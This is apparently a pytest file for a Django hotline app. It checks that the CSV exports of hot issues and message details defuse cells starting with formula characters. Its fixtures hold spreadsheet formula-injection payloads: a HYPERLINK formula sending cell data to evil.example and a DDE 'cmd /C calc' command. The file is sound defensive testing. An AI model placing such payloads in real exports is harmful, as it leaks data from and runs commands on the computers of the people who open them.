"""`hotline hotspots --data` writes 热点问题表 / 热点问题留言明细表 for Excel with the citizens' texts in them: a text
cell starting like a formula (=, +, -, @, tab, CR) is defused as in every other export (`export.defuse`)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from django.core.management import call_command

from hotline.hotspots import contest
from hotline.intelligence.hotspots import HotIssue, Message

DATA = Path(__file__).parent / "data" / "messages_likes_slice.csv"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
LIVE = ("=", "+", "-", "@", "\t", "\r")


def _issue() -> HotIssue:
    at = datetime(2019, 7, 3, 10, 0)
    member = Message(id="-L1", title=FORMULA, body="+1+cmd|' /C calc'!A0", at=at, user="@SUM(A1)", likes=3)
    return HotIssue(rank=1, issue_id=1, heat=3.0, first_at=at, last_at=at, place="-A1小区", groups=["业主"],
                    description="=1+1 小区噪音", message_ids=["-L1"], orders=1, people=1, supports=3, growth=0.0,
                    recency=1.0, members=[member])


def _rows(text: str) -> list[dict[str, str]]:
    header, *body = list(csv.reader(io.StringIO(text)))
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_issue_table_defuses_the_place_and_the_description() -> None:
    out = io.StringIO()
    contest.write_issue_table([_issue()], out)
    [row] = _rows(out.getvalue())
    assert (row["地点/人群"], row["问题描述"]) == ("'-A1小区业主", "'=1+1 小区噪音")
    assert (row["热度排名"], row["问题ID"], row["热度指数"]) == ("1", "1", "3.00")  # numbers as they were


def test_the_detail_table_defuses_every_text_of_the_message() -> None:
    out = io.StringIO()
    contest.write_detail_table([_issue()], out)
    [row] = _rows(out.getvalue())
    assert (row["留言编号"], row["留言用户"], row["留言主题"], row["留言详情"]) == (
        "'-L1", "'@SUM(A1)", "'" + FORMULA, "'+1+cmd|' /C calc'!A0")
    assert (row["留言时间"], row["点赞数"], row["反对数"]) == ("2019/07/03 10:00:00", "3", "0")


def test_ordinary_texts_are_written_as_they_are() -> None:
    issue = _issue()
    issue.place, issue.groups, issue.description = "东湖小区", [], "东湖小区夜间施工噪音"
    out = io.StringIO()
    contest.write_issue_table([issue], out)
    [row] = _rows(out.getvalue())
    assert (row["地点/人群"], row["问题描述"]) == ("东湖小区", "东湖小区夜间施工噪音")


@pytest.mark.django_db
def test_the_command_writes_no_live_formula(tmp_path: Path) -> None:
    """The real slice with each message's user, title and body made to start like a formula."""
    with DATA.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["留言用户"], row["留言主题"], row["留言详情"] = ("@" + row["留言用户"], "=" + row["留言主题"],
                                                   "+" + row["留言详情"])
    data = tmp_path / "messages.csv"
    with data.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    call_command("hotspots", "--data", str(data), "--top", "3", "--output-dir", str(tmp_path / "out"),
                 stdout=io.StringIO())
    detail = _rows((tmp_path / "out" / contest.DETAIL_TABLE).read_text(encoding="utf-8-sig"))
    issues = _rows((tmp_path / "out" / contest.ISSUE_TABLE).read_text(encoding="utf-8-sig"))
    assert detail and issues
    assert not [cell for row in detail + issues for cell in row.values() if cell.startswith(LIVE)]
    assert all(row["留言主题"].startswith("'=") and row["留言用户"].startswith("'@") for row in detail)
